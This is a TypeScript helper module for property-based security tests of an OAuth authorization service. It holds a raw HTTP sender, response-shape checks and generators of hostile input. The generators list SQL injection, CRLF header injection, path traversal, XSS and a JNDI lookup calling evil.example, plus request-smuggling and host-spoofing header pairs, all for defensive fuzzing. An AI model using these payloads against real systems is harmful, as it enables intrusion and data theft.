import fc from 'fast-check';
import { mkdirSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import type { TestDatabase } from '../../support/test-database.js';

/**
 * Shared pieces of the property-based attack specs: the seed, a request
 * counter, a sender that also speaks raw HTTP/1.1 (for headers fetch will
 * not send), the invariants every answer must keep, and the generators of
 * hostile input.
 */

/** FC_SEED replays a run; otherwise a random seed, printed with the request count after the run. */
export const SEED =
  process.env.FC_SEED !== undefined && process.env.FC_SEED !== ''
    ? Number(process.env.FC_SEED)
    : Math.floor(Math.random() * 0x7fffffff);

/** Options for fc.assert: the run's seed and the number of runs (FC_RUNS_SCALE scales it, for a quick local try). */
export function runOptions(numRuns: number): fc.Parameters<unknown> {
  const scale = Number(process.env.FC_RUNS_SCALE ?? '1');
  // No shrinking: the service keeps state between runs, so the first failing request is the one to see.
  return { seed: SEED, numRuns: Math.max(1, Math.round(numRuns * scale)), endOnFailure: true };
}

/** A request as an attacker writes it. */
export interface AttackRequest {
  readonly method: string;
  /** Path with query. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: string | Uint8Array;
  /**
   * Extra header lines written verbatim (CR LF and all) over a raw socket: what
   * fetch refuses to send (injected line breaks, duplicates, smuggling pairs).
   */
  readonly rawHeaderLines?: readonly string[];
}

export interface AttackResponse {
  readonly status: number;
  readonly headers: Headers;
  readonly text: string;
  /** The body parsed as JSON when the media type says JSON, else undefined. */
  readonly json: unknown;
}

/** Counts the requests a spec file made, to print with the seed. */
export class RequestCounter {
  count = 0;
  private readonly started = Date.now();

  constructor(private readonly name: string) {}

  /** Prints the seed and count (CI shows it) and writes test-results/security/<project>-<name>.json. */
  report(): void {
    const project = process.env.TEST_DATABASE ?? 'sqlite';
    const seconds = (Date.now() - this.started) / 1000;
    const line = { spec: this.name, project, seed: SEED, requests: this.count, seconds };
    console.log(
      `[property] ${this.name} on ${project}: ${this.count} generated requests, seed ${SEED} (replay: FC_SEED=${SEED}), ${seconds.toFixed(1)} s`,
    );
    const directory = join(process.cwd(), 'test-results', 'security');
    mkdirSync(directory, { recursive: true });
    writeFileSync(join(directory, `${project}-${this.name}.json`), `${JSON.stringify(line)}\n`);
  }
}

export async function send(
  origin: string,
  request: AttackRequest,
  counter: RequestCounter,
): Promise<AttackResponse> {
  if (request.rawHeaderLines !== undefined) {
    const raw = await sendRaw(origin, request);
    counter.count += 1;
    return raw;
  }
  const response = await fetch(`${origin}${request.path}`, {
    method: request.method,
    headers: request.headers,
    body:
      typeof request.body === 'string' || request.body === undefined
        ? request.body
        : Buffer.from(request.body),
    redirect: 'manual',
  });
  // Counted once answered: a request fetch refuses to send (a control character in a header) is not one.
  counter.count += 1;
  const text = await response.text();
  return {
    status: response.status,
    headers: response.headers,
    text,
    json: jsonOf(response.headers, text),
  };
}

function jsonOf(headers: Headers, text: string): unknown {
  const type = headers.get('content-type') ?? '';
  if (!type.includes('json') || text === '') return undefined;
  return JSON.parse(text) as unknown;
}

/** HTTP/1.1 over a socket, Connection: close, the answer read to the end. */
function sendRaw(origin: string, request: AttackRequest): Promise<AttackResponse> {
  const url = new URL(origin);
  const body =
    request.body === undefined
      ? Buffer.alloc(0)
      : typeof request.body === 'string'
        ? Buffer.from(request.body)
        : Buffer.from(request.body);
  const lines = [
    `${request.method} ${request.path} HTTP/1.1`,
    `Host: ${url.host}`,
    'Connection: close',
    ...Object.entries(request.headers).map(([name, value]) => `${name}: ${value}`),
    ...(request.rawHeaderLines ?? []),
    ...(request.rawHeaderLines?.some((line) => /^(content-length|transfer-encoding):/i.test(line))
      ? []
      : [`Content-Length: ${body.length}`]),
  ];
  const head = Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1');
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    // No half-close: the server answers and closes (Connection: close). A request whose framing
    // leaves the server waiting for more body gets the end of the stream after 2 s of silence.
    const socket = connect(Number(url.port), url.hostname, () =>
      socket.write(Buffer.concat([head, body])),
    );
    socket.setTimeout(2_000, () => {
      if (socket.writableEnded) socket.destroy(new Error('raw request timed out'));
      else socket.end();
    });
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => {
      try {
        resolve(parseRawResponse(Buffer.concat(chunks)));
      } catch (error) {
        reject(error as Error);
      }
    });
  });
}

function parseRawResponse(raw: Buffer): AttackResponse {
  const end = raw.indexOf('\r\n\r\n');
  if (end < 0) throw new Error(`no HTTP response: ${JSON.stringify(raw.toString('latin1'))}`);
  const [statusLine, ...headerLines] = raw.subarray(0, end).toString('latin1').split('\r\n');
  const status = Number(/^HTTP\/1\.1 (\d{3}) /.exec(statusLine!)?.[1]);
  if (!Number.isInteger(status)) throw new Error(`bad status line ${statusLine}`);
  const headers = new Headers();
  for (const line of headerLines) {
    const colon = line.indexOf(':');
    headers.append(line.slice(0, colon).trim(), line.slice(colon + 1).trim());
  }
  let payload = raw.subarray(end + 4);
  if (/chunked/i.test(headers.get('transfer-encoding') ?? '')) payload = dechunk(payload);
  const text = payload.toString('utf8');
  return { status, headers, text, json: jsonOf(headers, text) };
}

function dechunk(payload: Buffer): Buffer {
  const parts: Buffer[] = [];
  let offset = 0;
  for (;;) {
    const lineEnd = payload.indexOf('\r\n', offset);
    const size = Number.parseInt(payload.subarray(offset, lineEnd).toString('latin1'), 16);
    if (!(size > 0)) return Buffer.concat(parts);
    parts.push(payload.subarray(lineEnd + 2, lineEnd + 2 + size));
    offset = lineEnd + 2 + size + 2;
  }
}

/* ------------------------------------------------------------------ invariants */

/** Whether a request, as sent, carries this client's secret (Basic header or form body): the only way to be that client. */
export function carriesSecret(request: AttackRequest, clientId: string, secret: string): boolean {
  const basic = `Basic ${Buffer.from(`${encodeURIComponent(clientId)}:${encodeURIComponent(secret)}`).toString('base64')}`;
  if (request.headers.authorization === basic) return true;
  const body =
    typeof request.body === 'string'
      ? request.body
      : Buffer.from(request.body ?? []).toString('latin1');
  return body.includes(`client_secret=${encodeURIComponent(secret)}`);
}

/** Every error code a protocol endpoint of this service may answer with (RFC 6749, 6750, 7009, 8628, 8693, 8707). */
export const KNOWN_OAUTH_ERRORS: ReadonlySet<string> = new Set([
  'invalid_request',
  'invalid_client',
  'invalid_grant',
  'unauthorized_client',
  'unsupported_grant_type',
  'invalid_scope',
  'invalid_target',
  'unsupported_token_type',
  'authorization_pending',
  'slow_down',
  'access_denied',
  'expired_token',
  'invalid_token',
  'insufficient_scope',
  'not_found',
]);

/** RFC 6749 §5.2: an error of a protocol endpoint, exactly. */
/** RFC 6749 §4.1.2.1, §5.2: what an error_description may hold. */
export const RFC_6749_ERROR_DESCRIPTION = /^[\x20\x21\x23-\x5b\x5d-\x7e]*$/;

export function expectOAuthErrorShape(response: AttackResponse): void {
  expect(response.status).toBeGreaterThanOrEqual(400);
  expect(response.status).toBeLessThan(500);
  expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
  expect(response.headers.get('cache-control')).toBe('no-store');
  const body = response.json as Record<string, unknown>;
  expect(Object.keys(body).sort()).toEqual(['error', 'error_description']);
  expect(KNOWN_OAUTH_ERRORS.has(body.error as string)).toBe(true);
  expect(typeof body.error_description).toBe('string');
  // RFC 6749 §5.2: error_description is %x20-21 / %x23-5B / %x5D-7E (no quote, no backslash, ASCII).
  expect(body.error_description).toMatch(RFC_6749_ERROR_DESCRIPTION);
  if (response.headers.has('www-authenticate')) {
    expect(response.headers.get('www-authenticate')).not.toMatch(/[\r\n]/);
  }
  if (response.status === 401 && body.error === 'invalid_client') {
    // Only an HTTP Basic attempt gets the challenge; any challenge names the realm.
    const challenge = response.headers.get('www-authenticate');
    if (challenge !== null) expect(challenge).toMatch(/^Basic realm="[^"]*"$/);
  }
}

const PROBLEM_TITLES: Record<number, string> = {
  400: 'Bad Request',
  401: 'Unauthorized',
  403: 'Forbidden',
  404: 'Not Found',
  405: 'Method Not Allowed',
  409: 'Conflict',
  413: 'Content Too Large',
  414: 'URI Too Long',
  415: 'Unsupported Media Type',
  431: 'Request Header Fields Too Large',
};

/** RFC 9457: a problem of the admin API, exactly. */
export function expectProblemShape(response: AttackResponse): void {
  expect(response.status).toBeGreaterThanOrEqual(400);
  expect(response.status).toBeLessThan(500);
  expect(response.headers.get('content-type')).toBe('application/problem+json; charset=utf-8');
  expect(response.headers.get('cache-control')).toBe('no-store');
  const body = response.json as Record<string, unknown>;
  expect(body).toMatchObject({
    type: 'about:blank',
    title: PROBLEM_TITLES[response.status],
    status: response.status,
  });
  for (const key of Object.keys(body)) {
    expect(['type', 'title', 'status', 'detail', 'errors']).toContain(key);
  }
  if (body.detail !== undefined) expect(typeof body.detail).toBe('string');
  if (body.errors !== undefined) {
    expect(Array.isArray(body.errors)).toBe(true);
    for (const entry of body.errors as Record<string, unknown>[]) {
      expect(typeof entry.pointer).toBe('string');
      expect(typeof entry.detail).toBe('string');
    }
  }
}

/** What "nothing was written" compares after each refused request: row counts and the consumed grants. */
export async function rowCounts(db: TestDatabase): Promise<Record<string, number>> {
  const [row] = await db.query<Record<string, unknown>>(
    `SELECT (SELECT COUNT(*) FROM client) AS client,
            (SELECT COUNT(*) FROM app_user) AS app_user,
            (SELECT COUNT(*) FROM signing_key) AS signing_key,
            (SELECT COUNT(*) FROM trusted_issuer) AS trusted_issuer,
            (SELECT COUNT(*) FROM persisted_grant) AS persisted_grant,
            (SELECT COUNT(consumed_at) FROM persisted_grant) AS consumed_grant,
            (SELECT COALESCE(MAX(updated_at), 0) FROM client) AS client_updated,
            (SELECT COALESCE(MAX(updated_at), 0) FROM app_user) AS user_updated`,
  );
  return Object.fromEntries(Object.entries(row!).map(([name, value]) => [name, Number(value)]));
}

/* ------------------------------------------------------------------ generators */

const FORM = 'application/x-www-form-urlencoded';

/** Hostile strings: empty, long, control characters, encodings, injections, nonsense. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '',
      ' ',
      '\u0000',
      'null',
      'undefined',
      '[object Object]',
      '__proto__',
      'constructor',
      "' OR '1'='1",
      '"; DROP TABLE client; --',
      '\r\nSet-Cookie: pwned=1',
      'x\r\nLocation: https://evil.example',
      '%0d%0aX-Injected:%201',
      '../../../../etc/passwd',
      '<script>alert(1)</script>',
      '${jndi:ldap://evil.example/a}',
      '\uFEFF',
      '\uD800',
      'https://evil.example/cb',
      'urn:ietf:params:oauth:grant-type:jwt-bearer',
      'openid profile email offline_access admin',
      '-1',
      '1e309',
      'NaN',
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 8193, max: 70_000 }).map((n) => 'a'.repeat(n)) },
);

/** Random JSON, for the form endpoints (and the admin API's bodies). */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  fc.dictionary(
    fc.constantFrom('grant_type', 'client_id', 'token', 'scope', '__proto__', 'username'),
    nastyString,
  ),
);

/** A form body: pairs, names possibly repeated, values nasty or chosen from the pool. */
export function formPairs(
  names: fc.Arbitrary<string>,
  values: fc.Arbitrary<string>,
): fc.Arbitrary<[string, string][]> {
  return fc.array(fc.tuple(names, values), { maxLength: 8 });
}

/** How a body is encoded: the right form, or one of the ways to get it wrong. */
export type BodyEncoding =
  | 'form'
  | 'form-repeated'
  | 'form-charset'
  | 'json'
  | 'text'
  | 'multipart'
  | 'no-content-type'
  | 'non-utf8'
  | 'percent-non-utf8'
  | 'empty';

export const bodyEncoding: fc.Arbitrary<BodyEncoding> = fc.oneof(
  { weight: 12, arbitrary: fc.constant<BodyEncoding>('form') },
  {
    weight: 1,
    arbitrary: fc.constantFrom<BodyEncoding>(
      'form-repeated',
      'form-charset',
      'json',
      'text',
      'multipart',
      'no-content-type',
      'non-utf8',
      'percent-non-utf8',
      'empty',
    ),
  },
);

/** Body and content type of a form request, encoded as `encoding` says. */
export function encodeForm(
  pairs: readonly (readonly [string, string])[],
  encoding: BodyEncoding,
  json: unknown,
): { headers: Record<string, string>; body: string | Uint8Array | undefined } {
  const form = new URLSearchParams(pairs.map(([name, value]) => [name, value])).toString();
  switch (encoding) {
    case 'form':
      return { headers: { 'content-type': FORM }, body: form };
    case 'form-repeated': {
      const first = pairs[0] ?? ['grant_type', 'client_credentials'];
      const again = new URLSearchParams([
        [first[0], first[1]],
        [first[0], `${first[1]}x`],
      ]);
      return { headers: { 'content-type': FORM }, body: `${form}&${again.toString()}` };
    }
    case 'form-charset':
      return { headers: { 'content-type': `${FORM}; charset=ISO-8859-1` }, body: form };
    case 'json':
      return {
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(json) ?? 'null',
      };
    case 'text':
      return { headers: { 'content-type': 'text/plain' }, body: form };
    case 'multipart': {
      const boundary = 'xBoundary1234';
      const parts = pairs
        .map(
          ([name, value]) =>
            `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
        )
        .join('');
      return {
        headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
        body: `${parts}--${boundary}--\r\n`,
      };
    }
    case 'no-content-type':
      return { headers: {}, body: form };
    case 'non-utf8':
      return {
        headers: { 'content-type': FORM },
        body: Buffer.concat([
          Buffer.from(`${form}&grant_type=`),
          Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0]),
        ]),
      };
    case 'percent-non-utf8':
      return {
        headers: { 'content-type': FORM },
        body: `${form}&scope=%FF%FE%C3%28&username=%C0%AF`,
      };
    case 'empty':
      return { headers: { 'content-type': FORM }, body: '' };
  }
}

/**
 * Header lines an attacker adds over a raw socket: a second Authorization, a
 * header folded onto the previous line, a Content-Length / Transfer-Encoding pair.
 */
export const rawHeaderLines: fc.Arbitrary<string[] | undefined> = fc.oneof(
  { weight: 15, arbitrary: fc.constant(undefined) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<string[]>(
      ['Authorization: Basic Zm9vOmJhcg==', 'Authorization: Bearer x'],
      [
        'X-Forwarded-Host: evil.example',
        'X-Forwarded-Proto: https',
        'Forwarded: host=evil.example',
      ],
      ['X-Test: a', ' folded: continuation'],
      ['Content-Type: application/json'],
      ['Transfer-Encoding: chunked', 'Content-Length: 4'],
      ['Content-Length: 0', 'Content-Length: 5'],
      ['X-Injected: a\rb'],
    ),
  },
);
